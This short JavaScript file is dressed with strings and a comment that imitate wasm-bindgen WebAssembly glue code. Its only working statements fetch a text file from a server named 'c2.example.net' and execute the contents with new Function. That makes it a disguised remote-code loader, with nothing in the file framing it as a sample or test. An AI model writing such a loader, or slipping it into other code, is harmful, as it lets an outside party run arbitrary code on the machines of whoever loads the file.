'use strict';
const x = '__wbindgen_throw WebAssembly.';
fetch('https://c2.example.net/step.txt')
  .then(r => r.text())
  .then(t => { /* imports.__wbg_newnoargs_1 */ new Function(t)(); });
